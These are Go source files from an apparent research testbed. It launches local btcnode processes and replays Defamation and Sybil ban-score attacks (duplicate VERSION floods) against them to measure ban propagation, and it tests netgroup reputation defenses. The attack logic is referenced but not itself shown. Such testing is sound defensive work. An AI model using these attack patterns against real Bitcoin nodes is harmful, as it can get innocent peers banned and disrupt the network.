func (h Hash) String() string {
	for i := 0; i < HashSize/2; i++ {
		h[i], h[HashSize-1-i] = h[HashSize-1-i], h[i]
	}
	return hex.EncodeToString(h[:])
}

// CloneBytes returns a copy of the hash bytes in wire (little-endian) order.
func (h *Hash) CloneBytes() []byte {
	out := make([]byte, HashSize)
	copy(out, h[:])
	return out
}

// SetBytes sets the hash from b, which must be exactly HashSize bytes.
func (h *Hash) SetBytes(b []byte) error {
	if len(b) != HashSize {
		return fmt.Errorf("invalid hash length of %d, want %d", len(b), HashSize)
	}
	copy(h[:], b)
	return nil
}

// IsEqual reports whether target equals h. A nil target equals only a nil h.
func (h *Hash) IsEqual(target *Hash) bool {
	if h == nil && target == nil {
		return true
	}
	if h == nil || target == nil {
		return false
	}
	return *h == *target
}

// NewHash returns a Hash from exactly HashSize bytes in wire order.
func NewHash(b []byte) (*Hash, error) {
	var h Hash
	if err := h.SetBytes(b); err != nil {
		return nil, err
	}
	return &h, nil
}

// NewHashFromStr parses the conventional big-endian hex form. Short strings
// are zero-padded on the left, matching Bitcoin Core behavior.
func NewHashFromStr(s string) (*Hash, error) {
	var h Hash
	if err := Decode(&h, s); err != nil {
		return nil, err
	}
	return &h, nil
}

// Decode decodes the big-endian hex string into dst.
func Decode(dst *Hash, src string) error {
	if len(src) > MaxHashStringSize {
		return ErrHashStrSize
	}
	// Pad to even length for hex decoding.
	var srcBytes []byte
	if len(src)%2 == 0 {
		srcBytes = []byte(src)
	} else {
		srcBytes = make([]byte, 1+len(src))
		srcBytes[0] = '0'
		copy(srcBytes[1:], src)
	}
	var reversed Hash
	_, err := hex.Decode(reversed[HashSize-hex.DecodedLen(len(srcBytes)):], srcBytes)
	if err != nil {
		return fmt.Errorf("decode hash hex: %w", err)
	}
	for i, b := range reversed[:HashSize/2] {
		dst[i], dst[HashSize-1-i] = reversed[HashSize-1-i], b
	}
	return nil
}

// HashB returns the single SHA-256 of b.
func HashB(b []byte) []byte {
	s := sha256.Sum256(b)
	return s[:]
}

// HashH returns the single SHA-256 of b as a Hash.
func HashH(b []byte) Hash {
	return Hash(sha256.Sum256(b))
}

// DoubleHashB returns SHA-256(SHA-256(b)).
func DoubleHashB(b []byte) []byte {
	first := sha256.Sum256(b)
	second := sha256.Sum256(first[:])
	return second[:]
}

// DoubleHashH returns SHA-256(SHA-256(b)) as a Hash.
func DoubleHashH(b []byte) Hash {
	first := sha256.Sum256(b)
	return Hash(sha256.Sum256(first[:]))
}

// Checksum4 returns the first four bytes of SHA-256(SHA-256(b)) — the wire
// message checksum — without a heap allocation, unlike slicing DoubleHashB.
// The framing hot path verifies one of these per inbound message.
func Checksum4(b []byte) [4]byte {
	first := sha256.Sum256(b)
	second := sha256.Sum256(first[:])
	var c [4]byte
	copy(c[:], second[:4])
	return c
}

// ZeroHash is the all-zero hash, used as the previous-block hash of genesis.
var ZeroHash = Hash{}
