package fleet

import "banscore/internal/vclock"

// clk is the fleet driver's single time source. Readiness deadlines, the
// ban-propagation wait, and process-reap timeouts all read it instead of
// package time, so the banlint wallclock analyzer can prove the harness's
// only wall-clock dependence is this injectable seam — and tests can run
// the wait loops against a virtual clock.
var clk = vclock.System()

// SetClock replaces the package clock and returns the previous one.
// Intended for tests; not safe to call while a fleet is running.
func SetClock(c vclock.Clock) vclock.Clock {
	old := clk
	clk = c
	return old
}
