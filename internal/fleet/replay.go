package fleet

import (
	"fmt"
	"strings"
	"time"

	"banscore/internal/attack"
	"banscore/internal/observer"
	"banscore/internal/stats"
	"banscore/internal/wire"
)

// Replay defaults.
const (
	DefaultHandshakeTimeout = 5 * time.Second
	DefaultMaxMessages      = 20000
	DefaultBanWait          = 30 * time.Second
)

// IdentityOutcome is one attacker identity's run against the whole fleet.
type IdentityOutcome struct {
	// Identity is the shared [IP:port] every node attributed the attack to.
	Identity string `json:"identity"`
	// Flood holds the per-node send counts and timings.
	Flood []attack.FleetFloodResult `json:"flood"`
}

// ReplayResult is one fleet-wide attack replay: the attacker-side outcomes
// and the observer-side ban-propagation rows for those identities.
type ReplayResult struct {
	// Attack names the replayed scenario: "defamation" or "sybil".
	Attack string `json:"attack"`
	// Identities in attack order.
	Identities []IdentityOutcome `json:"identities"`
	// Propagation has one row per identity: which nodes banned it, the
	// first and last ban, and the first→last spread in seconds.
	Propagation []observer.Propagation `json:"propagation"`
}

// ReplayDefamation replays Fig. 6's Defamation against every node at once:
// one identity, connected to the whole fleet from a single local port,
// floods duplicate VERSION messages (+1 each, ban at 100) until each node
// independently bans the same identifier. The observer's journal feeds then
// yield the cross-node propagation spread for that identity.
func (c *Cluster) ReplayDefamation(delay time.Duration) (ReplayResult, error) {
	return c.replay("defamation", 1, delay)
}

// ReplaySybil replays Fig. 8's serial Sybil loop fleet-wide: identities
// fresh local ports in sequence, each flooding the whole fleet until banned
// everywhere — the workload whose per-identity spread distribution the
// propagation table summarizes.
func (c *Cluster) ReplaySybil(identities int, delay time.Duration) (ReplayResult, error) {
	return c.replay("sybil", identities, delay)
}

// replay runs n identities serially and waits for the observer to see every
// ban on every node.
func (c *Cluster) replay(name string, n int, delay time.Duration) (ReplayResult, error) {
	res := ReplayResult{Attack: name}
	targets := c.Targets()
	flood := attack.VersionFlood()
	for i := 0; i < n; i++ {
		fi, err := attack.DialFleet("127.0.0.1", targets, wire.SimNet, DefaultHandshakeTimeout)
		if err != nil {
			return res, fmt.Errorf("%s identity %d: %w", name, i+1, err)
		}
		results := fi.FloodAll(targets, flood, delay, DefaultMaxMessages)
		res.Identities = append(res.Identities, IdentityOutcome{
			Identity: fi.Local,
			Flood:    results,
		})
	}

	prop, err := c.waitForBans(res.Identities, DefaultBanWait)
	if err != nil {
		return res, err
	}
	res.Propagation = prop
	return res, nil
}

// waitForBans polls the observer until every identity has a ban sighting on
// every node, then returns those identities' propagation rows in identity
// order.
func (c *Cluster) waitForBans(ids []IdentityOutcome, timeout time.Duration) ([]observer.Propagation, error) {
	want := make(map[string]bool, len(ids))
	for _, id := range ids {
		want[id.Identity] = true
	}
	deadline := clk.Now().Add(timeout)
	for {
		_ = c.Obs.PollAll()
		byPeer := make(map[string]observer.Propagation)
		for _, row := range c.Store.Propagation() {
			byPeer[row.Peer] = row
		}
		complete := true
		for peer := range want {
			if byPeer[peer].NodesBanned != len(c.Nodes) {
				complete = false
				break
			}
		}
		if complete {
			out := make([]observer.Propagation, 0, len(ids))
			for _, id := range ids {
				out = append(out, byPeer[id.Identity])
			}
			return out, nil
		}
		if clk.Now().After(deadline) {
			missing := make([]string, 0, len(want))
			for peer := range want {
				if byPeer[peer].NodesBanned != len(c.Nodes) {
					missing = append(missing, fmt.Sprintf("%s (%d/%d nodes)",
						peer, byPeer[peer].NodesBanned, len(c.Nodes)))
				}
			}
			return nil, fmt.Errorf("fleet: bans never propagated for %s", strings.Join(missing, ", "))
		}
		clk.Sleep(50 * time.Millisecond)
	}
}

// ExperimentConfig sizes the fleet propagation experiment.
type ExperimentConfig struct {
	// Cluster configures the fleet itself.
	Cluster Config
	// SybilIdentities is the serial Sybil identity count (default 2).
	SybilIdentities int
	// Delay is the inter-message flood delay (Fig. 8: 0 vs 1 ms).
	Delay time.Duration
}

// ExperimentResult is the full fleet experiment: both replays against one
// fleet, plus the per-node event totals the observer aggregated.
type ExperimentResult struct {
	Nodes      int                    `json:"nodes"`
	NodeIDs    []string               `json:"node_ids"`
	Defamation ReplayResult           `json:"defamation"`
	Sybil      ReplayResult           `json:"sybil"`
	Summaries  []observer.NodeSummary `json:"node_summaries"`
}

// RunExperiment launches a fleet, replays Defamation and the Sybil loop
// against it, and returns the cross-node ban-propagation measurements. The
// fleet is torn down before returning.
func RunExperiment(cfg ExperimentConfig) (ExperimentResult, error) {
	if cfg.SybilIdentities <= 0 {
		cfg.SybilIdentities = 2
	}
	var res ExperimentResult
	c, err := Launch(cfg.Cluster)
	if err != nil {
		return res, err
	}
	defer c.Close()
	res.Nodes = len(c.Nodes)
	res.NodeIDs = c.NodeIDs()

	if res.Defamation, err = c.ReplayDefamation(cfg.Delay); err != nil {
		return res, fmt.Errorf("defamation replay: %w", err)
	}
	if res.Sybil, err = c.ReplaySybil(cfg.SybilIdentities, cfg.Delay); err != nil {
		return res, fmt.Errorf("sybil replay: %w", err)
	}
	res.Summaries = c.Store.Nodes()
	return res, nil
}

// Render prints the fleet propagation tables in the experiment suite's
// style.
func (r ExperimentResult) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "FLEET — CROSS-NODE BAN PROPAGATION (%d real btcnode processes over TCP)\n", r.Nodes)
	sb.WriteString(renderReplay(r.Defamation))
	sb.WriteString(renderReplay(r.Sybil))
	return sb.String()
}

func renderReplay(rep ReplayResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "\n%s replay — identities: %d\n", strings.ToUpper(rep.Attack), len(rep.Identities))
	fmt.Fprintf(&sb, "%-22s | %5s | %-10s | %-10s | %12s | %14s\n",
		"Identity", "Nodes", "First node", "Last node", "Spread (ms)", "Msgs (mean)")
	sb.WriteString(strings.Repeat("-", 88) + "\n")
	spreads := make([]float64, 0, len(rep.Propagation))
	for i, row := range rep.Propagation {
		var msgs float64
		if i < len(rep.Identities) && len(rep.Identities[i].Flood) > 0 {
			for _, f := range rep.Identities[i].Flood {
				msgs += float64(f.MessagesSent)
			}
			msgs /= float64(len(rep.Identities[i].Flood))
		}
		fmt.Fprintf(&sb, "%-22s | %5d | %-10s | %-10s | %12.2f | %14.1f\n",
			row.Peer, row.NodesBanned, row.FirstNode, row.LastNode, row.Spread*1000, msgs)
		spreads = append(spreads, row.Spread*1000)
	}
	if len(spreads) > 1 {
		s := stats.Summarize(spreads)
		fmt.Fprintf(&sb, "spread ms: mean=%.2f sd=%.2f min=%.2f max=%.2f (n=%d)\n",
			s.Mean, s.StdDev, s.Min, s.Max, s.N)
	}
	return sb.String()
}
