package fleet

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"testing"

	"banscore/internal/observer"
)

// TestFleetDefamationPropagation is the end-to-end fleet path: build the
// real btcnode binary, launch two processes on loopback TCP with banstores
// and telemetry, defame one identity against both at once, and read the
// cross-node ban propagation back out of the observer's store and the
// /fleet query API.
func TestFleetDefamationPropagation(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and launches real node processes")
	}
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("go toolchain unavailable")
	}

	c, err := Launch(Config{Nodes: 2, Dir: t.TempDir()})
	if err != nil {
		t.Fatalf("Launch: %v", err)
	}
	defer c.Close()

	rep, err := c.ReplayDefamation(0)
	if err != nil {
		t.Fatalf("ReplayDefamation: %v", err)
	}
	if len(rep.Identities) != 1 || len(rep.Propagation) != 1 {
		t.Fatalf("replay shape: %+v", rep)
	}
	row := rep.Propagation[0]
	if row.Peer != rep.Identities[0].Identity {
		t.Errorf("propagation row for %s, attacked as %s", row.Peer, rep.Identities[0].Identity)
	}
	if row.NodesBanned != 2 {
		t.Errorf("NodesBanned = %d, want 2", row.NodesBanned)
	}
	if row.Spread < 0 || row.Spread > 30 {
		t.Errorf("spread = %vs, not a plausible loopback propagation window", row.Spread)
	}
	for _, f := range rep.Identities[0].Flood {
		if !f.Banned {
			t.Errorf("node %s never banned the identity (sent %d)", f.Target, f.MessagesSent)
		}
		// Duplicate VERSION scores +1 and bans at 100: the victim must have
		// accepted at least the banning hundred.
		if f.MessagesSent < 100 {
			t.Errorf("node %s: only %d messages before the ban, want >= 100", f.Target, f.MessagesSent)
		}
	}

	// The same rows through the /fleet HTTP surface.
	rec := httptest.NewRecorder()
	c.Store.QueryHandler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/fleet/propagation", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("/fleet/propagation: HTTP %d", rec.Code)
	}
	var rows []observer.Propagation
	if err := json.Unmarshal(rec.Body.Bytes(), &rows); err != nil || len(rows) != 1 {
		t.Fatalf("/fleet/propagation body: %s (%v)", rec.Body.Bytes(), err)
	}

	// Both nodes' journals were consumed and attributed.
	sums := c.Store.Nodes()
	if len(sums) != 2 {
		t.Fatalf("node summaries: %+v", sums)
	}
	for _, s := range sums {
		if s.Bans != 1 {
			t.Errorf("node %s: %d observed bans, want 1", s.Node, s.Bans)
		}
		if s.Info == "" {
			t.Errorf("node %s: node_info never scraped", s.Node)
		}
	}
}
