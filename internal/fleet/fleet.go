// Package fleet launches and observes multi-node btcnode testbeds on real
// loopback TCP. It is the driver half of the fleet observer: it builds the
// btcnode binary, starts N processes with per-node banstore directories and
// telemetry/trace/debug endpoints, points an observer at every node's
// journal and debug surfaces, and replays the paper's Defamation (Fig. 6)
// and Sybil (Fig. 8) attacks against the whole fleet at once — the same
// attacker identity presented to every node via SO_REUSEPORT — so the
// cross-node ban-propagation spread is measurable from the aggregated
// store.
//
// The package manages OS processes and real sockets, but its time
// dependence — readiness deadlines, the ban-propagation wait, process-reap
// timeouts — flows through one injectable vclock seam (clock.go), and its
// goroutines route through the cluster's supervised spawn helper, so the
// banlint wallclock and gospawn analyzers police it like the in-process
// packages.
package fleet

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"banscore/internal/observer"
)

// Defaults for Config fields left zero.
const (
	DefaultNodes        = 3
	DefaultMode         = "standard"
	DefaultPollInterval = 50 * time.Millisecond
	DefaultReadyTimeout = 15 * time.Second
)

// Config sizes and shapes a fleet launch.
type Config struct {
	// Nodes is the number of btcnode processes to launch (default 3).
	Nodes int

	// Mode is each node's tracker mode (default "standard").
	Mode string

	// Bin is a prebuilt btcnode binary. Empty builds one with the go
	// toolchain into Dir.
	Bin string

	// Dir is the fleet's working directory: per-node banstore dirs, logs,
	// and the observer store live under it. Empty creates a temp dir that
	// Close removes.
	Dir string

	// PollInterval is the observer's background poll cadence (default
	// 50ms).
	PollInterval time.Duration

	// ReadyTimeout bounds how long Launch waits for each node's /healthz
	// to answer (default 15s).
	ReadyTimeout time.Duration

	// ExtraArgs are appended to every node's command line (e.g.
	// "-reputation").
	ExtraArgs []string
}

// Node is one launched btcnode process.
type Node struct {
	// ID is the fleet-unique identifier passed as -node-id.
	ID string
	// Addr is the node's P2P listen address.
	Addr string
	// TelemetryURL is the node's debug/telemetry base URL.
	TelemetryURL string
	// BanstoreDir holds the node's crash-safe ban state.
	BanstoreDir string

	cmd    *exec.Cmd
	log    *os.File
	exited chan struct{} // closed once the reaper goroutine's cmd.Wait returns
}

// Cluster is a running fleet: the node processes, the observer polling
// them, and the aggregated ban-intelligence store.
type Cluster struct {
	Nodes []*Node
	Store *observer.Store
	Obs   *observer.Observer

	dir    string
	ownDir bool
	wg     sync.WaitGroup // reaper goroutines; collected by cleanup
}

// spawn runs f on a goroutine registered with the cluster's WaitGroup so
// cleanup can collect it — the supervised form the gospawn analyzer
// requires in this package.
func (c *Cluster) spawn(f func()) {
	c.wg.Add(1)
	go func() {
		defer c.wg.Done()
		f()
	}()
}

// ModuleRoot walks up from the working directory to the enclosing go.mod —
// the directory `go build ./cmd/btcnode` must run from.
func ModuleRoot() (string, error) {
	dir, err := os.Getwd()
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("fleet: no go.mod above %s", dir)
		}
		dir = parent
	}
}

// BuildBtcnode compiles cmd/btcnode into dir and returns the binary path.
func BuildBtcnode(dir string) (string, error) {
	root, err := ModuleRoot()
	if err != nil {
		return "", err
	}
	bin := filepath.Join(dir, "btcnode")
	cmd := exec.Command("go", "build", "-o", bin, "./cmd/btcnode")
	cmd.Dir = root
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("fleet: build btcnode: %v\n%s", err, out)
	}
	return bin, nil
}

// freePorts reserves n distinct loopback TCP ports by binding and releasing
// listeners. The fleet claims staggered port pairs from this pool — listen
// and telemetry per node — before any process starts, so flag wiring is
// explicit rather than parsed back out of child stdout.
func freePorts(n int) ([]int, error) {
	ports := make([]int, 0, n)
	listeners := make([]net.Listener, 0, n)
	defer func() {
		for _, l := range listeners {
			l.Close()
		}
	}()
	for len(ports) < n {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return nil, fmt.Errorf("fleet: reserve port: %w", err)
		}
		listeners = append(listeners, l)
		ports = append(ports, l.Addr().(*net.TCPAddr).Port)
	}
	return ports, nil
}

// Launch builds (if needed) and starts the fleet: N btcnode processes on
// staggered loopback ports, each with -telemetry, -trace, -banstore-dir,
// and -node-id n<i>, then an observer polling every node into a crash-safe
// store at <dir>/observer. It blocks until every node's /healthz answers.
func Launch(cfg Config) (*Cluster, error) {
	if cfg.Nodes <= 0 {
		cfg.Nodes = DefaultNodes
	}
	if cfg.Mode == "" {
		cfg.Mode = DefaultMode
	}
	if cfg.PollInterval <= 0 {
		cfg.PollInterval = DefaultPollInterval
	}
	if cfg.ReadyTimeout <= 0 {
		cfg.ReadyTimeout = DefaultReadyTimeout
	}

	c := &Cluster{dir: cfg.Dir}
	if c.dir == "" {
		dir, err := os.MkdirTemp("", "fleet-*")
		if err != nil {
			return nil, err
		}
		c.dir = dir
		c.ownDir = true
	} else if err := os.MkdirAll(c.dir, 0o755); err != nil {
		return nil, err
	}

	bin := cfg.Bin
	if bin == "" {
		var err error
		if bin, err = BuildBtcnode(c.dir); err != nil {
			c.cleanup()
			return nil, err
		}
	}

	ports, err := freePorts(2 * cfg.Nodes)
	if err != nil {
		c.cleanup()
		return nil, err
	}

	for i := 0; i < cfg.Nodes; i++ {
		n := &Node{
			ID:           fmt.Sprintf("n%d", i+1),
			Addr:         fmt.Sprintf("127.0.0.1:%d", ports[2*i]),
			TelemetryURL: fmt.Sprintf("http://127.0.0.1:%d", ports[2*i+1]),
			BanstoreDir:  filepath.Join(c.dir, fmt.Sprintf("n%d", i+1), "banstore"),
		}
		args := []string{
			"-listen", n.Addr,
			"-telemetry", fmt.Sprintf("127.0.0.1:%d", ports[2*i+1]),
			"-node-id", n.ID,
			"-trace",
			"-banstore-dir", n.BanstoreDir,
			"-mode", cfg.Mode,
			"-stats", "0",
		}
		args = append(args, cfg.ExtraArgs...)
		logf, err := os.Create(filepath.Join(c.dir, n.ID+".log"))
		if err != nil {
			c.cleanup()
			return nil, err
		}
		n.log = logf
		n.cmd = exec.Command(bin, args...)
		n.cmd.Stdout = logf
		n.cmd.Stderr = logf
		if err := n.cmd.Start(); err != nil {
			logf.Close()
			c.cleanup()
			return nil, fmt.Errorf("fleet: start %s: %w", n.ID, err)
		}
		n.exited = make(chan struct{})
		reap := n
		c.spawn(func() {
			_ = reap.cmd.Wait()
			close(reap.exited)
		})
		c.Nodes = append(c.Nodes, n)
	}

	for _, n := range c.Nodes {
		if err := waitReady(n, cfg.ReadyTimeout); err != nil {
			c.cleanup()
			return nil, err
		}
	}

	store, err := observer.OpenStore(observer.Options{Dir: filepath.Join(c.dir, "observer")})
	if err != nil {
		c.cleanup()
		return nil, err
	}
	c.Store = store
	targets := make([]observer.NodeTarget, len(c.Nodes))
	for i, n := range c.Nodes {
		targets[i] = observer.NodeTarget{ID: n.ID, BaseURL: n.TelemetryURL}
	}
	c.Obs = observer.New(observer.Config{
		Store:    store,
		Targets:  targets,
		Interval: cfg.PollInterval,
	})
	c.Obs.Start()
	return c, nil
}

// waitReady polls the node's /healthz until it answers any HTTP status, or
// fails with the node's log tail when the deadline passes or the process
// already exited.
func waitReady(n *Node, timeout time.Duration) error {
	deadline := clk.Now().Add(timeout)
	url := n.TelemetryURL + "/healthz"
	for clk.Now().Before(deadline) {
		resp, err := http.Get(url)
		if err == nil {
			resp.Body.Close()
			return nil
		}
		select {
		case <-n.exited:
			return fmt.Errorf("fleet: %s exited before becoming ready at %s\n%s",
				n.ID, url, logTail(n, 20))
		case <-clk.After(25 * time.Millisecond):
		}
	}
	return fmt.Errorf("fleet: %s never became ready at %s\n%s", n.ID, url, logTail(n, 20))
}

// logTail returns the node's last lines of output for error context.
func logTail(n *Node, lines int) string {
	data, err := os.ReadFile(n.log.Name())
	if err != nil {
		return ""
	}
	all := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(all) > lines {
		all = all[len(all)-lines:]
	}
	return strings.Join(all, "\n")
}

// Targets returns every node's P2P address, in node order.
func (c *Cluster) Targets() []string {
	out := make([]string, len(c.Nodes))
	for i, n := range c.Nodes {
		out[i] = n.Addr
	}
	return out
}

// NodeIDs returns every node's -node-id, in node order.
func (c *Cluster) NodeIDs() []string {
	out := make([]string, len(c.Nodes))
	for i, n := range c.Nodes {
		out[i] = n.ID
	}
	return out
}

// Close stops the observer, terminates every node (SIGTERM, then SIGKILL
// after a grace period), closes the store, and removes the working
// directory when Launch created it.
func (c *Cluster) Close() error {
	var firstErr error
	if c.Obs != nil {
		c.Obs.Stop()
		c.Obs = nil
	}
	if c.Store != nil {
		if err := c.Store.Close(); err != nil && firstErr == nil {
			firstErr = err
		}
		c.Store = nil
	}
	c.cleanup()
	return firstErr
}

// cleanup kills node processes and removes the owned directory.
func (c *Cluster) cleanup() {
	for _, n := range c.Nodes {
		if n.cmd != nil && n.cmd.Process != nil {
			_ = n.cmd.Process.Signal(syscall.SIGTERM)
		}
	}
	for _, n := range c.Nodes {
		if n.cmd == nil || n.cmd.Process == nil || n.exited == nil {
			if n.log != nil {
				n.log.Close()
			}
			continue
		}
		select {
		case <-n.exited:
		case <-clk.After(5 * time.Second):
			_ = n.cmd.Process.Kill()
			<-n.exited
		}
		if n.log != nil {
			n.log.Close()
		}
	}
	c.wg.Wait()
	c.Nodes = nil
	if c.ownDir {
		os.RemoveAll(c.dir)
	}
}

// Dir returns the fleet's working directory.
func (c *Cluster) Dir() string { return c.dir }
