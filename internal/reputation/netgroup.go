package reputation

import (
	"net"

	"banscore/internal/core"
)

// Netgroup key prefixes. Keys are short stable strings so they work as map
// keys, metric labels, and /debug/reputation paths without further
// normalization.
const (
	// prefixIPv4 marks an IPv4 /16 group: "ip4:a.b/16".
	prefixIPv4 = "ip4:"

	// prefixIPv6 marks an IPv6 /32 group: "ip6:aabb:ccdd/32".
	prefixIPv6 = "ip6:"

	// prefixSelf marks the per-identifier fallback group of an address
	// that carries no parseable IP (simnet logical names, malformed
	// input). Such identifiers pay their own budget alone — an attacker
	// gains nothing by mangling its address string.
	prefixSelf = "id:"
)

// hexDigits is the nibble alphabet for IPv6 group keys.
const hexDigits = "0123456789abcdef"

// NetgroupKey maps a connection identifier onto its reputation netgroup:
// the IPv4 /16 or IPv6 /32 prefix the engine charges for the peer's
// misbehavior. This is the granularity at which serial/parallel Sybil
// identities share a budget — one entity controlling a prefix (the
// "Hijacking Bitcoin" adversary) cannot reset its reputation by minting
// fresh [IP:Port] identifiers inside it.
//
// Derivation rules, in order:
//
//   - "host:port" with an IPv4 (or IPv4-mapped IPv6) host → "ip4:a.b/16"
//   - "host:port" with any other IPv6 host → "ip6:aabb:ccdd/32"
//     (first 32 bits, hex, zero-padded)
//   - a bare host without a port is grouped as if it had one
//   - anything unparseable falls back to the per-identifier group
//     "id:<identifier>" — never a panic, never a shared bucket that
//     malformed input could poison
func NetgroupKey(id core.PeerID) string {
	host, _, err := net.SplitHostPort(string(id))
	if err != nil {
		// No port (or malformed): treat the whole identifier as the
		// host and fall through to IP parsing.
		host = string(id)
	}
	ip := net.ParseIP(host)
	if ip == nil {
		return prefixSelf + string(id)
	}
	if v4 := ip.To4(); v4 != nil {
		// Covers dotted quads and IPv4-mapped IPv6 (::ffff:a.b.c.d):
		// both describe the same routable /16.
		var buf [len(prefixIPv4) + 7 + len("/16")]byte
		n := copy(buf[:], prefixIPv4)
		n += putUint8(buf[n:], v4[0])
		buf[n] = '.'
		n++
		n += putUint8(buf[n:], v4[1])
		n += copy(buf[n:], "/16")
		return string(buf[:n])
	}
	ip16 := ip.To16()
	var buf [len(prefixIPv6) + 9 + len("/32")]byte
	n := copy(buf[:], prefixIPv6)
	for i := 0; i < 4; i++ {
		if i == 2 {
			buf[n] = ':'
			n++
		}
		buf[n] = hexDigits[ip16[i]>>4]
		buf[n+1] = hexDigits[ip16[i]&0xf]
		n += 2
	}
	n += copy(buf[n:], "/32")
	return string(buf[:n])
}

// putUint8 writes v in decimal and returns the number of bytes written.
func putUint8(dst []byte, v byte) int {
	switch {
	case v >= 100:
		dst[0] = '0' + v/100
		dst[1] = '0' + (v/10)%10
		dst[2] = '0' + v%10
		return 3
	case v >= 10:
		dst[0] = '0' + v/10
		dst[1] = '0' + v%10
		return 2
	default:
		dst[0] = '0' + v
		return 1
	}
}
