package reputation

import (
	"strconv"
	"sync"
	"testing"
	"time"

	"banscore/internal/core"
	"banscore/internal/vclock"
)

// virtualClock is a manually advanced vclock.Clock. The engine only reads
// Now; the remaining methods exist to satisfy the interface.
type virtualClock struct {
	mu sync.Mutex
	at time.Time
}

func newVirtualClock() *virtualClock {
	return &virtualClock{at: time.Unix(1700000000, 0)}
}

func (c *virtualClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.at
}

func (c *virtualClock) Advance(d time.Duration) {
	c.mu.Lock()
	c.at = c.at.Add(d)
	c.mu.Unlock()
}

func (c *virtualClock) Since(t time.Time) time.Duration { return c.Now().Sub(t) }
func (c *virtualClock) Until(t time.Time) time.Duration { return t.Sub(c.Now()) }
func (c *virtualClock) Sleep(d time.Duration)           { c.Advance(d) }
func (c *virtualClock) AfterFunc(d time.Duration, f func()) vclock.Timer {
	return vclock.System().AfterFunc(0, f)
}

func (c *virtualClock) After(d time.Duration) <-chan time.Time {
	c.Advance(d)
	ch := make(chan time.Time, 1)
	ch <- c.Now()
	return ch
}

func TestMisbehaviorDecaysTrustPersists(t *testing.T) {
	clock := newVirtualClock()
	e := New(Config{Clock: clock, HalfLife: 10 * time.Minute})

	id := core.PeerID("203.0.113.7:8333")
	e.Credit(id, CreditBlock)
	e.Penalize(id, 40)

	s := e.Score(id)
	if s.Misbehavior != 40 || s.Trust != CreditBlock {
		t.Fatalf("fresh state: got %+v", s)
	}

	clock.Advance(10 * time.Minute)
	s = e.Score(id)
	if s.Misbehavior < 19.9 || s.Misbehavior > 20.1 {
		t.Fatalf("after one half-life misbehavior = %v, want ~20", s.Misbehavior)
	}
	if s.Trust != CreditBlock {
		t.Fatalf("trust decayed to %v; trust must persist", s.Trust)
	}

	clock.Advance(100 * 10 * time.Minute)
	s = e.Score(id)
	if s.Misbehavior > 1e-9 {
		t.Fatalf("after 100 half-lives misbehavior = %v, want ~0", s.Misbehavior)
	}
	if s.Reputation < float64(CreditBlock)-1e-9 {
		t.Fatalf("reputation = %v, want trust to dominate after decay", s.Reputation)
	}
}

func TestTrustIsCapped(t *testing.T) {
	e := New(Config{Clock: newVirtualClock(), TrustCap: 10})
	id := core.PeerID("203.0.113.7:8333")
	for i := 0; i < 100; i++ {
		e.Credit(id, CreditBlock)
	}
	if s := e.Score(id); s.Trust != 10 {
		t.Fatalf("trust = %v, want capped at 10", s.Trust)
	}
}

func TestFramedIdentityCannotExhaustGroup(t *testing.T) {
	// The Defamation counter: unlimited spoofed misbehavior against ONE
	// identifier charges its netgroup at most PeerContributionCap, so the
	// group never leaves healthy standing.
	clock := newVirtualClock()
	e := New(Config{Clock: clock})

	innocent := core.PeerID("10.9.0.1:8333")
	for i := 0; i < 1000; i++ {
		e.Penalize(innocent, 100)
	}
	pressure, status := e.GroupPressure(e.GroupOf(innocent))
	if pressure > e.Config().PeerContributionCap+1e-9 {
		t.Fatalf("one identity charged its group %v, cap is %v", pressure, e.Config().PeerContributionCap)
	}
	if status != GroupHealthy {
		t.Fatalf("group status = %v after framing one identity, want healthy", status)
	}
	if v := e.Admission(innocent); v != VerdictAdmit {
		t.Fatalf("admission verdict for framed identity = %v, want admit", v)
	}
}

func TestSybilSwarmExhaustsGroupBudget(t *testing.T) {
	clock := newVirtualClock()
	var bannedGroup string
	e := New(Config{Clock: clock, OnGroupBan: func(g string, _ float64) { bannedGroup = g }})

	need := e.IdentitiesToExhaust()
	if need != 40 {
		t.Fatalf("IdentitiesToExhaust = %d with defaults, want 40", need)
	}

	// Parallel-Sybil shape: distinct ports (and hosts) inside one /16,
	// each saturating its per-identity cap.
	ids := make([]core.PeerID, 0, need)
	var res PenaltyResult
	for i := 0; res.GroupStatus != GroupBanned; i++ {
		if i > need {
			t.Fatalf("group not banned after %d identities, expected %d", i, need)
		}
		id := core.PeerID("10.7." + strconv.Itoa(i) + ".1:49152")
		ids = append(ids, id)
		for j := 0; j < 2; j++ { // two hits saturate the 100-point cap
			res = e.Penalize(id, 100)
		}
	}
	if len(ids) != need {
		t.Fatalf("group banned after %d identities, want exactly %d", len(ids), need)
	}
	if bannedGroup != "ip4:10.7/16" {
		t.Fatalf("OnGroupBan fired for %q, want ip4:10.7/16", bannedGroup)
	}

	// Every member of the prefix — including a fresh, never-seen identity —
	// is now rejected; an unrelated prefix is not.
	if v := e.Admission("10.7.250.250:65535"); v != VerdictReject {
		t.Fatalf("fresh identity in banned /16: verdict %v, want reject", v)
	}
	if v := e.Admission("10.8.0.1:8333"); v != VerdictAdmit {
		t.Fatalf("identity in clean /16: verdict %v, want admit", v)
	}

	// The ban is time-boxed; decay during the ban window drains pressure.
	clock.Advance(e.Config().GroupBanDuration + time.Second)
	if v := e.Admission("10.7.250.250:65535"); v == VerdictReject {
		t.Fatalf("banned /16 still rejecting after ban duration elapsed")
	}
}

func TestProbationPrecedesBan(t *testing.T) {
	clock := newVirtualClock()
	e := New(Config{Clock: clock, GroupBudget: 400, PeerContributionCap: 100})

	// Two saturated identities = 200 = half the 400 budget → probation.
